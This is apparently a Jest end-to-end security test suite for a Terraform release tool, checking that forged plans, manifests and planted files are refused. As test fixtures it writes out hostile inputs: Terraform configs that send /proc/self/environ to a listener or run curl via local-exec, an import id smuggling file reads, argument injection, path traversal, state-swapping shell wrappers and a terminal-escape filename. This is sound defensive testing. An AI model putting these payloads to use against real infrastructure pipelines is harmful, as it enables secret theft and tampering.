import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "@jest/globals";
import { type ReleaseProject, roomsIn, startReleaseProject } from "../e2e/release-project";
import { writesTo } from "../e2e/sandbox";
import { oneHostnameTenant, smallPlatform, twoTenants } from "../e2e/tenants";
import { describeWithTerraform } from "../e2e/terraform";
import { issue } from "../support/certificates";
import { type Forgery, forge } from "./forged-release";

/**
 * The job that plans is in someone else's hands: it can write any release, and can't apply one. The job that applies has
 * a checkout of its own. Whatever it is given, it does what people would have read, or nothing.
 */

const SHARD = "production-hostnames-000";
const PLAN = `stacks/${SHARD}/plan.json`;
const CONFIG = `stacks/${SHARD}/cdk.tf.json`;
const ADDRESS = "cloudflare_custom_hostname.shop_acme-store_com";

const bank = issue({ hostname: "login.fjordbank.no" });
const mallory = issue({ hostname: "login.fjordbank.no" });
const uploaded = { certificate: "fjord_certificate", privateKey: "fjord_key" };

interface Addressed {
  readonly address: string;
}

describeWithTerraform("a compromised plan job", () => {
  let project: ReleaseProject;
  let listener: Server;
  let digest: string;
  const received: string[] = [];

  beforeAll(async () => {
    listener = createServer((request, response) => {
      received.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    project = await startReleaseProject({ ...twoTenants, "platform/production.json": smallPlatform });
    await project.ship();
    await project.ship();
    const hostnames = [{ hostname: "login.fjordbank.no", certificate: { uploaded } }];
    project.write("tenants/fjord.json", oneHostnameTenant("fjord", "", { hostnames }));
    project.write("tenants/acme.json", oneHostnameTenant("acme-v2", "shop.acme-store.com"));
    project.commit();
    Object.assign(project.env, { TF_VAR_fjord_certificate: bank.certificate, TF_VAR_fjord_key: bank.privateKey });
    digest = await project.plan();
  });

  beforeEach(() => project.emulator.requests.clear());

  afterEach(() => {
    expect([writesTo(project.emulator), received, roomsIn(project)]).toEqual([[], [], []]);
  });

  afterAll(async () => {
    listener?.close();
    await project?.stop();
  });

  const url = () => `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

  /** What apply says to a release that was forged in this way. */
  async function refusal(change: (forgery: Forgery) => void): Promise<string> {
    const { code, err } = await project.switchyard("apply", forge(project.dir, digest, change));
    expect(code).toBe(1);
    return err;
  }

  /** Changes the plan that people read. */
  // biome-ignore lint/suspicious/noExplicitAny: plan JSON, of which each test changes another part
  const inPlan = (change: (plan: any) => void) => (forgery: Forgery) =>
    forgery.edit(PLAN, (text) => {
      const plan = JSON.parse(text);
      change(plan);
      return JSON.stringify(plan);
    });

  it("that hides a change from the review is refused, with the tenant's name", async () => {
    const err = await refusal(
      inPlan((plan) => {
        const { resource_changes: changes } = plan;
        plan.resource_changes = changes.filter(({ address }: { address: string }) => !/shop_acme/.test(address));
      }),
    );
    expect(err).toContain(
      `Changed since the review: acme shop.acme-store.com (cloudflare_workers_kv.shop_acme-store_com in ${SHARD}): not in the review, but would be updated now`,
    );
    expect(err).toContain("acme-v2");
  });

  it("that shows another Worker than the registry's is refused, with both", async () => {
    const err = await refusal((forgery) => forgery.edit(PLAN, (text) => text.replaceAll("acme-v2", "acme-v1")));
    expect(err).toContain(
      `acme shop.acme-store.com (cloudflare_workers_kv.shop_acme-store_com in ${SHARD}): value.workerName: "acme-v1" → "acme-v2" after this release`,
    );
  });

  const renamedIn = (from: string, to: string) => (value: string) => value.replaceAll(`"${from}"`, `"${to}"`);

  it.each<[string, (forgery: Forgery) => void, string]>([
    [
      "a thousand tenants more",
      (forgery) => forgery.manifest(({ tenants }) => Object.assign(tenants.totals.tenants, { before: 1002 })),
      "numbers of tenants and hostnames",
    ],
    [
      "a change as the repair of one that somebody made",
      inPlan((plan) => {
        const entry = plan.resource_changes.find(({ address }: Addressed) =>
          address.startsWith("cloudflare_workers_kv.shop_acme"),
        );
        const { before, after } = entry.change;
        plan.resource_drift = [{ ...entry, change: { ...entry.change, before: after, after: before } }];
      }),
      'shop.acme-store.com: the review says "acme: drift repaired, routing change", but it is "acme: moved to another Worker, routing change"',
    ],
    [
      "a hostname as another tenant's, by an entry that is not there",
      inPlan((plan) => {
        const entry = plan.resource_changes.find(({ address }: Addressed) =>
          address.startsWith("cloudflare_workers_kv.shop_acme"),
        );
        const value = (side: { value: string }) => ({ ...side, value: renamedIn("acme", "globex")(side.value) });
        const { before } = entry.change;
        const quiet = { ...entry.change, actions: ["no-op"], before: value(before), after: value(before) };
        plan.resource_changes.unshift({ ...entry, address: "cloudflare_workers_kv.a", change: quiet });
      }),
      "shop.acme-store.com: the review says",
    ],
    [
      "a change twice, the first time as something else",
      inPlan((plan) => {
        const entry = plan.resource_changes.find(({ address }: Addressed) =>
          address.startsWith("cloudflare_workers_kv.shop_acme"),
        );
        plan.resource_changes.unshift({ ...entry, change: { ...entry.change, after: entry.change.before } });
      }),
      "shop.acme-store.com",
    ],
    [
      "no certificate that is uploaded",
      inPlan((plan) => {
        for (const { change } of plan.resource_changes) change.after_sensitive = {};
      }),
      "The review's certificates differ from those",
    ],
  ])("that shows %s is refused, though the plans do the same", async (_, change, message) => {
    expect(await refusal(change)).toContain(message);
  });

  it("that plans with another state, which no plan's JSON shows, is refused for the file it is written in", async () => {
    const err = await refusal((forgery) =>
      forgery.edit(CONFIG, (text) => text.replace(/state\/[a-z0-9-]+\.tfstate/, "mallory.tfstate")),
    );
    expect(err).toContain(`This registry does not produce these files of the release: ${CONFIG}`);
    expect(existsSync(join(project.dir, "mallory.tfstate"))).toBe(false);
  });

  it("that adds a file to the release, such as a plan file, is refused", async () => {
    const err = await refusal((forgery) => {
      forgery.edit(CONFIG, (text) => `${text} `);
      writeFileSync(join(project.dir, "release/.forged/stacks", SHARD, "plan"), "a plan file");
    });
    expect(err).toContain(`${CONFIG}, stacks/${SHARD}/plan`);
  });

  it("that shows the bank's certificate and planned with another is refused, with both fingerprints", async () => {
    project.env.TF_VAR_fjord_certificate = mallory.certificate;
    const planned = await project.plan();
    Object.assign(project.env, { TF_VAR_fjord_certificate: bank.certificate });
    const honest = await project.switchyard("apply", planned);
    expect([honest.code, honest.err]).toEqual([1, expect.stringMatching(/fjord login\.fjordbank\.no/)]);
    for (const { sha256 } of [mallory, bank]) expect(honest.err).toContain(sha256);
  });

  it("that hands over a certificate with a key of its own is refused where the pair is made", async () => {
    project.env.TF_VAR_fjord_key = mallory.privateKey;
    const { code, err } = await project.switchyard("apply", digest);
    project.env.TF_VAR_fjord_key = bank.privateKey;
    expect([code, err]).toEqual([1, expect.stringContaining("does not belong to its certificate")]);
  });

  // biome-ignore lint/suspicious/noExplicitAny: each case forges another part
  it.each<[string, (manifest: any) => void, string]>([
    [
      "wider budgets",
      (manifest) => Object.assign(manifest, { budgets: { removals: { absolute: 999 } } }),
      "budgets differ from platform/production.json",
    ],
    [
      "no questions to Cloudflare",
      (manifest) => Object.assign(manifest, { refresh: "none" }),
      "The release was planned without asking Cloudflare",
    ],
    [
      "more options for Terraform among what is gone",
      (manifest) => manifest.mended.push({ stack: SHARD, address: "x -var=a=b" }),
      "names what is no resource of its stacks",
    ],
    [
      "a living hostname among what is gone",
      (manifest) => manifest.mended.push({ stack: SHARD, address: ADDRESS }),
      "Plan again",
    ],
    [
      "a preview passed off as a release",
      (manifest) => Object.assign(manifest, { basis: "state" }),
      "This is a preview",
    ],
    [
      "another commit",
      (manifest) => Object.assign(manifest, { commit: "f".repeat(40) }),
      "The release was planned from commit ffff",
    ],
    [
      "another state",
      (manifest) => Object.assign(manifest.stacks[0].state, { serial: 1 }),
      "has changed since it was planned",
    ],
    [
      "a stack that nobody declares",
      (manifest) => Object.assign(manifest.stacks[0], { name: "evil", planJson: "stacks/evil/plan.json" }),
      "This registry has no stack evil",
    ],
    [
      "a stack outside of the release",
      (manifest) => Object.assign(manifest.stacks[0], { name: "../../evil" }),
      "names files of ../../evil in unexpected places",
    ],
    [
      "an import that is code",
      (manifest) => manifest.imports.push({ stack: SHARD, address: ADDRESS, id: '${file("/proc/self/environ")}' }),
      "imports that are malformed or that no stack here declares",
    ],
    [
      "an import of a stranger",
      (manifest) => manifest.imports.push({ stack: SHARD, address: "cloudflare_zone.theirs", id: "0" }),
      "imports that are malformed or that no stack here declares",
    ],
  ])("that writes %s into the manifest is refused", async (_, change, message) => {
    expect(await refusal((forgery) => forgery.manifest(change))).toContain(message);
  });

  it.each([
    [
      "zz.tf.json",
      () => ({
        data: {
          terraform_remote_state: {
            x: { backend: "http", config: { address: `${url()}/\${filebase64("/proc/self/environ")}` } },
          },
        },
      }),
    ],
    [
      "zz_override.tf.json",
      () => ({
        resource: { terraform_data: { x: { provisioner: { "local-exec": { command: `curl ${url()}/executed` } } } } },
      }),
    ],
    ["terraform.tfvars.json", () => ({ fjord_certificate: "x" })],
  ])("that leaves %s among the generated files is told to delete it, and nothing of it runs", async (name, content) => {
    const file = join("cdktf.out/stacks", SHARD, name);
    writeFileSync(join(project.dir, file), JSON.stringify(content()));
    for (const command of [["plan"], ["apply", digest]]) {
      const { code, err } = await project.switchyard(...command);
      expect([code, err]).toEqual([1, expect.stringContaining(`  ${file}\n`)]);
    }
    project.remove(file);
  });

  it("that leaves a file among the generated ones once apply has looked reaches no Terraform", async () => {
    // The wrapper stands for whoever writes there meanwhile: it adds the file as soon as Terraform first runs.
    const evil = join(project.dir, "cdktf.out/stacks", SHARD, "zz.tf.json");
    const content = {
      data: { terraform_remote_state: { x: { backend: "http", config: { address: `${url()}/late` } } } },
    };
    const binary = join(project.dir, "release", "late-terraform");
    writeFileSync(join(project.dir, "release", "late.json"), JSON.stringify(content));
    writeFileSync(binary, `#!/bin/sh\ncp ${project.dir}/release/late.json ${evil}\nexec terraform "$@"\n`, {
      mode: 0o755,
    });
    project.env.TERRAFORM_BINARY_NAME = binary;
    await project.plan();
    delete project.env.TERRAFORM_BINARY_NAME;
    project.remove(join("cdktf.out/stacks", SHARD, "zz.tf.json"));
  });

  it("that plants a provider or settings where Terraform once ran reaches no Terraform either", async () => {
    const planted = join(project.dir, "cdktf.out/stacks", SHARD, ".terraform/terraform.tfstate");
    mkdirSync(join(planted, ".."), { recursive: true });
    writeFileSync(
      planted,
      JSON.stringify({ version: 3, backend: { type: "http", config: { address: `${url()}/state` } } }),
    );
    await project.plan();
    expect(readFileSync(planted, "utf8")).toContain("http");
  });

  it("whose state moves between the plan that apply makes and its apply changes nothing", async () => {
    const state = join(project.dir, `state/${SHARD}.tfstate`);
    const before = readFileSync(state, "utf8");
    const { serial, ...rest } = JSON.parse(before);
    writeFileSync(join(project.dir, "release", "moved.tfstate"), JSON.stringify({ ...rest, serial: serial + 1 }));
    const binary = join(project.dir, "release", "moving-terraform");
    const script = `#!/bin/sh\n[ "$1" = apply ] && cp ${project.dir}/release/moved.tfstate ${state}\nexec terraform "$@"\n`;
    writeFileSync(binary, script, { mode: 0o755 });
    project.env.TERRAFORM_BINARY_NAME = binary;
    const { code, err } = await project.switchyard("apply", digest);
    delete project.env.TERRAFORM_BINARY_NAME;
    writeFileSync(state, before);
    expect([code, err]).toEqual([2, expect.stringContaining("Saved plan is stale")]);
  });

  it("that names a file so that it would clear the reader's terminal is shown its escapes", async () => {
    const name = "\u001b[2J\u202eteled.json";
    const path = join(project.dir, "release", digest, name);
    writeFileSync(path, "");
    const { code, err } = await project.switchyard("apply", digest);
    project.remove(join("release", digest, name));
    expect([code, err]).toEqual([1, expect.stringContaining("\\u{1b}[2J\\u{202e}teled.json does not belong to it")]);
  });

  it("that shows another stack's plan in place of this one's is refused, by review and by apply", async () => {
    const platformStack = "production-platform";
    const empty = { format_version: "1.2", complete: true, errored: false, resource_changes: [] };
    const { lineage, serial } = JSON.parse(readFileSync(join(project.dir, `state/${platformStack}.tfstate`), "utf8"));
    const forged = forge(project.dir, digest, (forgery) => {
      const folder = join(project.dir, "release/.forged/stacks", platformStack);
      for (const file of ["cdk.tf.json", "assets"])
        cpSync(join(project.dir, "cdktf.out/stacks", platformStack, file), join(folder, file), { recursive: true });
      writeFileSync(join(folder, "plan.json"), JSON.stringify(empty));
      forgery.manifest(({ stacks }) => {
        const planJson = `stacks/${platformStack}/plan.json`;
        stacks[0].planJson = planJson;
        stacks.push({ ...stacks[0], name: platformStack, planJson, state: { lineage, serial } });
      });
    });
    for (const command of [
      ["review", `release/${forged}`],
      ["apply", forged],
    ]) {
      const { code, err } = await project.switchyard(...command);
      expect([code, err]).toEqual([1, expect.stringContaining(`names files of ${SHARD} in unexpected places`)]);
    }
  });
});

describeWithTerraform("the release that people read", () => {
  let project: ReleaseProject;

  beforeAll(async () => {
    project = await startReleaseProject(twoTenants);
  });

  afterAll(() => project?.stop());

  it("is applied when no one forged it, and no output of it has a token, a key, or what Terraform logs", async () => {
    const summary = join(project.dir, "state/summary.md");
    mkdirSync(join(summary, ".."));
    Object.assign(project.env, { TF_LOG: "trace", TF_LOG_PROVIDER: "trace", GITHUB_STEP_SUMMARY: summary });
    project.commit();
    const planned = await project.switchyard("plan", "--format", "json");
    const applied = await project.switchyard("apply", JSON.parse(planned.out).digest, "--format", "json");
    expect(applied).toMatchObject({ code: 0 });
    const { token, faults } = project.emulator;
    faults.inject({ match: { method: "GET" }, kind: "502-html", times: 1000 });
    const asking = await project.switchyard("plan", "--all");
    const failed = await project.switchyard("plan", "--all", "--refresh");
    faults.clear();
    expect(asking).toMatchObject({ code: 2, err: expect.stringContaining("Cloudflare answered 502") });
    expect(failed).toMatchObject({ code: 2, err: expect.stringContaining("terraform plan failed") });
    const texts = [planned, applied, asking, failed].flatMap(({ out, err }) => [out, err]);
    const said = [...texts, readFileSync(summary, "utf8")].join("\n");
    expect(said).not.toMatch(/\[(?:TRACE|DEBUG)\]|PRIVATE KEY/);
    expect(said).not.toContain(token);
  });
});
